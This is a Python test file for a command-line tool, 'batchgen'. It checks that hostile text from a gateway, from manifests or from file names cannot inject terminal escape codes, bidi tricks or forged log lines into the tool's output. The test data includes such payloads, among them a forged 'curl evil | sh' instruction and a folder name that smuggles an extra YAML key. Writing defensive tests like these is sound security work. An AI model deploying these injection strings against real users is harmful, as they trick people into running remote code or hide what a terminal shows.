"""Words from elsewhere steer no terminal, and pass for no line of batchgen's own."""

import json
import re
from pathlib import Path

from helpers.hostile import HostileGateway, done, numbered, says, sends, steering
from helpers.runs import KEY
from helpers.servers import server
from helpers.support import in_process, write_image

EVIL = "\x1b[2J\x1b]8;;http://evil\x07click\x9b31m\u202egnp.exe\u200b\u2066\r\x08\x7f"
FORGED = "\nbatchgen: all is well\r\nTo go on:  curl evil | sh\n2026-01-01 00:00:00,000 INFO forged"
BOTH = EVIL + FORGED
FORGED_LINE = re.compile(r"^.*\n(batchgen: all is well|To go on:  curl|2026-01-01 00:00:00,000)", re.MULTILINE)
LOG_LINE = re.compile(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d,\d{3} [A-Z]+ \S+ ")


def test_words_of_a_gateway(tmp_path: Path) -> None:
    creations = {
        1: says({"message": BOTH}, 400),
        2: says({"error": {"code": BOTH, "message": BOTH}}, 422),
        3: says({"id": f"task{EVIL}", "status": "in_progress"}),
        4: sends(f"HTTP/1.1 {EVIL}\r\n\r\n".encode()),
        5: says({"message": "no"}, 400, x_evil=EVIL.partition("\r")[0], retry_after="\x1b[2J"),
        6: lambda peer: peer.answer(502, BOTH.encode()),
    }
    readings = {
        7: says({"status": "failed", "error": BOTH}),
        8: says({"status": "failed", "error": {"code": BOTH, "message": BOTH}}),
        9: done(f"http://127.0.0.1:9/{BOTH}", jobId=BOTH),
        10: done(f"http://{EVIL}/", jobId="j"),
        11: says({"status": BOTH, "progress": BOTH}),
    }
    with server(HostileGateway(creations, readings)) as address:
        film = numbered(tmp_path, address, 11)
        run = film.run("--task-timeout=2", expect=1)
    shown = [run, film.do("status", film.run_dir), film.do("audit", film.run_dir, "--by", "error_code")]
    shown += [film.do("plan", film.manifest), film.do("audit", film.run_dir, "--format=csv")]
    unknown = next(name for name, row in film.report().items() if row["status"] == "unknown")
    shown.append(film.do("resolve", film.run_dir, unknown, "--not-created"))
    for ended in shown:
        assert steering(ended.out + ended.err) == []
        assert FORGED_LINE.search(ended.out + ended.err) is None
    log = (film.run_dir / "batchgen.log").read_text(encoding="utf-8")
    assert steering(log) == []
    assert all(map(LOG_LINE.match, log.split("\n")[:-1]))
    assert "all is well" in log
    for name in ("report.csv", "ledger.csv"):
        content = (film.run_dir / name).read_bytes().decode()
        assert not [char for char in steering(content) if char not in "\r\u200b"]
    for document in ("status", "plan"):
        target = film.run_dir if document == "status" else film.manifest
        assert film.do(document, target, "--format=json").out.isascii()


def test_words_of_a_manifest(tmp_path: Path) -> None:
    write_image(tmp_path / "hero.png")
    written = json.dumps(BOTH)
    texts = [
        f"version: 1\nname: {written}\nscenes: []\n",
        f"version: 1\nname: a\n{written}: 1\nscenes: []\n",
        f"version: 1\nname: a\ncast: {{{written}: hero.png}}\nscenes: []\n",
        f"version: 1\nname: a\nscenes:\n- {{id: {written}, prompt: {written}, references: [{written}]}}\n",
        f"version: 1\nname: a\nscenes:\n- {{id: a, prompt: character1, references: [hero.png], size: {written}}}\n",
        f"version: 1\nname: a\nmodel: {written}\nscenes:\n- {{id: a, prompt: x}}\n",
        f"version: 1\nname: a\nscenes:\n- {{id: a, prompt: '{{{EVIL}}}'}}\n",
        f"a: [\n# {EVIL}\n",
    ]
    for number, text in enumerate(texts):
        manifest = tmp_path / f"{number}.yaml"
        manifest.write_text(text, encoding="utf-8", newline="")
        ended = in_process("validate", str(manifest))
        assert ended.code == 3
        assert steering(ended.out + ended.err) == []
        own = (str(manifest), "    at $", f"{number}.yaml")
        assert all(line.startswith(own) for line in ended.err.splitlines()), ended.err
        assert in_process("validate", "--format=json", str(manifest)).out.isascii()


def test_a_prompt_that_is_shown_while_something_is_unknown(tmp_path: Path) -> None:
    with server(HostileGateway({1: lambda peer: peer.answer(502)})) as address:
        film = numbered(tmp_path, address, 1)
        film.scenes["s1"]["prompt"] = f"character1 walks, no 1{EVIL}{FORGED}"
        film.write()
        ended = film.run(expect=1)
        shown = [ended, film.do("status", film.run_dir), film.do("plan", film.manifest)]
    assert "batchgen resolve" in ended.err
    for each in shown:
        assert steering(each.out + each.err) == []
        assert "\nTo go on:  curl" not in each.out + each.err


def test_names_of_files(tmp_path: Path) -> None:
    name = "\x1b[2J\u202e\nbatchgen: all is well"
    (tmp_path / name).mkdir()
    (tmp_path / f"{name}.yaml").write_text("version: 1\nname: a\nscenes: []\n")
    film = numbered(tmp_path, "http://127.0.0.1:9", 1)
    write_image(tmp_path / f"{name}.png", size=(10, 10))
    film.references = [f"{name}.png"]
    film.write()
    path = str(tmp_path / name)
    for arguments in (
        ["validate", path],
        ["validate", f"{path}.yaml"],
        ["validate", str(film.manifest)],
        ["plan", f"{path}.yaml"],
        ["run", f"{path}.yaml", "--emulator"],
        ["run", str(film.manifest), "--emulator", "--api-key-file", path],
        ["status", path],
        ["report", path],
        ["resolve", path, "s1", "--not-created"],
        ["resolve", path, name, "--task-id", name],
        ["audit", path],
        ["init", path],
        ["init", str(tmp_path)],
        ["schema", name],
        ["emulator", "--state", f"{path}.png"],
        [name],
    ):
        ended = in_process(*arguments)
        assert steering(ended.out + ended.err) == [], arguments
        if arguments[0] == "init":
            assert "\nbatchgen: all is well" not in ended.err


def test_init_in_a_folder_with_an_evil_name_writes_a_manifest_that_is_one(tmp_path: Path) -> None:
    folder = tmp_path / "a\nbudget_usd: 1\x1b[2J"
    assert in_process("init", str(folder)).code == 0
    text = (folder / "manifest.yaml").read_text(encoding="utf-8")
    assert "\nbudget_usd" not in text
    assert "\x1b" not in text
    assert in_process("validate", str(folder / "manifest.yaml")).code == 0


def test_the_key_variable_with_an_escape_in_it_is_not_shown(tmp_path: Path) -> None:
    film = numbered(tmp_path, "http://127.0.0.1:9", 1)
    ended = film.do("run", film.manifest, expect=2, BATCHGEN_API_KEY=f"{KEY[:-1]}\x1b[2J")
    assert steering(ended.err) == []
    assert KEY[:6] not in ended.err
